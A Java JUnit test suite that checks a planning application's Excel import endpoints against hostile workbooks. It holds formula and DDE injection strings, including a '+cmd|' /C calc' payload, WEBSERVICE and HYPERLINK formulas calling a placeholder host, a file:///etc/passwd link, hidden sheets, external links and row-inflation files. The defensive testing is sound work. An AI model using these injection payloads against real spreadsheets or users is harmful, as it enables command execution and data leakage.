package org.duban.story;

import static org.assertj.core.api.Assertions.assertThat;
import static org.duban.story.Officials.ok;
import static org.duban.testing.SmallPlan.lead;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFHyperlink;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.duban.testing.Caller;
import org.duban.testing.Caller.Answer;
import org.duban.testing.ServerTest;
import org.duban.testing.SmallPlan;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Genuine workbooks with what somebody may put into them, at each door that takes one: refused by row and column, or
 * taken as the text that it is. Nothing is calculated, followed or opened.
 */
@ServerTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileWorkbooksTest {

    private static final String TEXT = "三、重点任务\n1．修缮旧桥。加固桥面。（责任单位：市交通局、市财政局）\n2．清淤。疏通河道。（责任单位：市财政局）\n";

    @LocalServerPort
    int port;

    @Autowired
    SmallPlan small;

    private final Map<Door, Place> places = new EnumMap<>(Door.class);

    /** Who takes a workbook, and a cell of it that holds words. */
    enum Door {
        PLAN("任务", "标题", 3),
        ORGANISATION("单位", "全称", 2),
        REPORTS("进展", "已做工作", 2),
        PROJECTS("重点项目", "里程碑（日期 名称）", 8);

        private final String sheet;
        private final String column;
        private final int at;

        Door(String sheet, String column, int at) {
            this.sheet = sheet;
            this.column = column;
            this.at = at;
        }
    }

    private record Place(Caller who, String export, String imports) {}

    private LocalDate milestone;
    private byte[] organisation;

    @BeforeAll
    void each_door_is_open() {
        Officials officials = new Officials(port);
        Caller office = officials.office();
        long draft = ok(office.upload("/api/plans/imports", "a.txt", TEXT.getBytes(StandardCharsets.UTF_8)))
                .path("id")
                .asLong();
        places.put(
                Door.PLAN,
                new Place(office, "/api/plans/" + draft + "/export.xlsx", "/api/plans/" + draft + "/imports"));
        places.put(
                Door.ORGANISATION,
                new Place(officials.as("sysadmin"), "/api/organisation/export.xlsx", "/api/organisation/imports"));
        ReportingPlan life = new ReportingPlan(port, small);
        String round = "/api/progress-rounds/" + life.nextRound() + "/workbook";
        places.put(
                Door.REPORTS,
                new Place(life.officials.handlerOf(ReportingPlan.FINANCE), round + ".xlsx", round + "-imports"));
        LocalDate today = officials.today();
        milestone = today.plusYears(1);
        long plan = small.published(today, today.plusYears(5), List.of(lead("市民政局")));
        small.keyProjects(plan, "最低生活保障");
        officials.clockTo(today.plusDays(1).toString());
        String projects = "/api/plans/" + plan + "/project-completions";
        places.put(Door.PROJECTS, new Place(office, projects + "/export.xlsx", projects + "/imports"));
        organisation = exported(Door.ORGANISATION);
    }

    @AfterAll
    void units_have_their_names_back() {
        ok(upload(Door.ORGANISATION, organisation));
    }

    /** What the cell must begin with to be read at all. */
    private String prefix(Door door) {
        return door == Door.PROJECTS ? milestone + " " : "";
    }

    @ParameterizedTest
    @EnumSource
    void a_formula_is_refused_where_it_stands(Door door) {
        for (String formula :
                List.of("HYPERLINK(\"http://example.org/\"&A1,\"详情\")", "WEBSERVICE(\"http://example.org/\")", "1+1")) {
            Answer refused = sent(door, sheet -> cell(door, sheet).setCellFormula(formula));
            assertRefusedInRow(door, refused, "公式");
        }
        assertUnchanged(door);
    }

    @ParameterizedTest
    @EnumSource
    void what_looks_like_a_formula_is_a_text_goes_out_guarded_and_comes_back_the_same(Door door) throws IOException {
        for (String text : List.of(
                "=HYPERLINK(\"http://example.org\")局",
                "+cmd|' /C calc'!A0局",
                "-1+1局",
                "@SUM(1)局",
                "＝1局",
                "𠮷𬎆 ${7*7} #{now()} عربي 局")) {
            ok(sent(door, sheet -> cell(door, sheet).setCellValue(prefix(door) + text)));
            byte[] out = exported(door);
            String shown = read(door, out);
            assertThat(shown.startsWith("'") ? shown.substring(1) : shown).isEqualTo(prefix(door) + text);
            assertThat(shown).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-");
            assertThat(shown).doesNotStartWith("@").doesNotStartWith("＝");
            assertUnchanged(door);
        }
    }

    @ParameterizedTest
    @EnumSource
    void links_are_not_kept_and_hidden_sheets_are_not_read(Door door) throws IOException {
        ok(sent(door, sheet -> {
            cell(door, sheet).setCellValue(prefix(door) + "有链接的局");
            link(cell(door, sheet), HyperlinkType.URL, "http://example.org/track");
            link(sheet.getRow(1).getCell(0), HyperlinkType.FILE, "file:///etc/passwd");
            XSSFSheet hidden = sheet.getWorkbook().createSheet("隐藏");
            hidden.createRow(0).createCell(0).setCellFormula("WEBSERVICE(\"http://example.org/\")");
            sheet.getWorkbook().setSheetHidden(sheet.getWorkbook().getSheetIndex(hidden), true);
        }));
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(exported(door)))) {
            assertThat(cell(door, book.getSheet(door.sheet)).getStringCellValue())
                    .isEqualTo(prefix(door) + "有链接的局");
            assertThat(book.getSheet(door.sheet).getHyperlinkList()).isEmpty();
            assertThat(book.getSheet("隐藏")).isNull();
        }
    }

    @ParameterizedTest
    @EnumSource
    void a_workbook_that_leans_on_another_is_refused_or_read_without_it(Door door) {
        byte[] leaning = withEntry(
                exported(door),
                "xl/externalLinks/externalLink1.xml",
                "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>");
        Answer answer = upload(door, leaning);
        if (door == Door.PLAN) {
            assertThat(ok(answer).path("different").asBoolean()).isFalse();
        } else {
            assertThat(answer.status()).isEqualTo(415);
            assertThat(answer.json().path("detail").asString()).contains("外部链接");
        }
    }

    @ParameterizedTest
    @EnumSource
    void a_million_rows_are_counted_not_built(Door door) {
        ok(sent(door, sheet -> sheet.getCTWorksheet().getDimension().setRef("A1:XFD1048576")));

        Answer far =
                sent(door, sheet -> sheet.createRow(999_999).createCell(door.at).setCellValue("局"));
        assertThat(far.status()).isIn(413, 422);
        assertThat(far.text()).containsPattern("第 ?1000000 ?行|超过100000行");

        byte[] crowded = crowded(exported(door), door);
        long before = System.nanoTime();
        Answer refused = upload(door, crowded);
        assertThat(refused.status()).as(refused.text()).isIn(413, 422);
        assertThat(refused.json().path("detail").asString()).containsPattern("\\p{IsHan}{4}");
        assertThat((System.nanoTime() - before) / 1_000_000_000).as("seconds").isLessThan(20);
        assertUnchanged(door);
    }

    @ParameterizedTest
    @EnumSource
    void a_text_too_long_is_refused_where_it_stands(Door door) {
        Answer refused = sent(door, sheet -> cell(door, sheet)
                .setCellValue(prefix(door) + "局".repeat(32_767 - prefix(door).length())));
        assertRefusedInRow(door, refused, "不超过");
        assertUnchanged(door);
    }

    @ParameterizedTest
    @EnumSource(names = "PLAN", mode = EnumSource.Mode.EXCLUDE)
    void a_control_character_that_nobody_sees_is_refused_where_it_stands(Door door) {
        Answer refused = sent(door, sheet -> cell(door, sheet).setCellValue(prefix(door) + "民_x0001_政局"));
        assertRefusedInRow(door, refused, "控制字符");
        assertUnchanged(door);
    }

    private static void assertRefusedInRow(Door door, Answer refused, String why) {
        assertThat(refused.status()).as(refused.text()).isEqualTo(422);
        assertThat(refused.text()).containsPattern("第 ?2 ?行").contains(door.column, why);
    }

    private Answer sent(Door door, Consumer<XSSFSheet> change) {
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(exported(door)));
                var out = new ByteArrayOutputStream()) {
            change.accept(book.getSheet(door.sheet));
            book.write(out);
            return upload(door, out.toByteArray());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private Answer upload(Door door, byte[] content) {
        Place place = places.get(door);
        return place.who().upload(place.imports() + "?dryRun=false", "a.xlsx", content);
    }

    private byte[] exported(Door door) {
        Place place = places.get(door);
        return place.who().get(place.export()).response().body();
    }

    /** What goes out comes back without any difference: what was refused has left nothing. */
    private void assertUnchanged(Door door) {
        Place place = places.get(door);
        var answer = ok(place.who().upload(place.imports() + "?dryRun=true", "a.xlsx", exported(door)));
        assertThat(answer.path("different").asBoolean(false)).isFalse();
        assertThat(answer.path("changes").size() + answer.path("changed").size())
                .isZero();
    }

    private static XSSFCell cell(Door door, XSSFSheet sheet) {
        XSSFRow row = sheet.getRow(1);
        return row.getCell(door.at) == null ? row.createCell(door.at) : row.getCell(door.at);
    }

    private static String read(Door door, byte[] content) throws IOException {
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(content))) {
            return cell(door, book.getSheet(door.sheet)).getStringCellValue();
        }
    }

    private static void link(XSSFCell cell, HyperlinkType type, String address) {
        XSSFHyperlink link = cell.getSheet().getWorkbook().getCreationHelper().createHyperlink(type);
        link.setAddress(address);
        cell.setHyperlink(link);
    }

    /** A million rows without a cell: a few bytes each in the file, a few hundred as objects. */
    private static byte[] crowded(byte[] workbook, Door door) {
        StringBuilder rows = new StringBuilder();
        for (int row = 100; row < 1_000_000; row++) {
            rows.append("<row r=\"").append(row).append("\"/>");
        }
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(workbook))) {
            String part = book.getSheet(door.sheet)
                    .getPackagePart()
                    .getPartName()
                    .getName()
                    .substring(1);
            return rewritten(workbook, part, xml -> xml.replace("</sheetData>", rows + "</sheetData>"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] withEntry(byte[] workbook, String name, String content) {
        return rewritten(workbook, name, before -> content);
    }

    /** The workbook with one part rewritten, or added when there is none of this name. */
    private static byte[] rewritten(byte[] workbook, String part, java.util.function.UnaryOperator<String> change) {
        var out = new ByteArrayOutputStream();
        try (var in = new ZipInputStream(new ByteArrayInputStream(workbook));
                var zip = new ZipOutputStream(out)) {
            boolean isThere = false;
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                zip.putNextEntry(new ZipEntry(entry.getName()));
                byte[] content = in.readAllBytes();
                boolean isMeant = entry.getName().equals(part);
                isThere |= isMeant;
                zip.write(isMeant ? bytes(change.apply(new String(content, StandardCharsets.UTF_8))) : content);
            }
            if (!isThere) {
                zip.putNextEntry(new ZipEntry(part));
                zip.write(bytes(change.apply("")));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
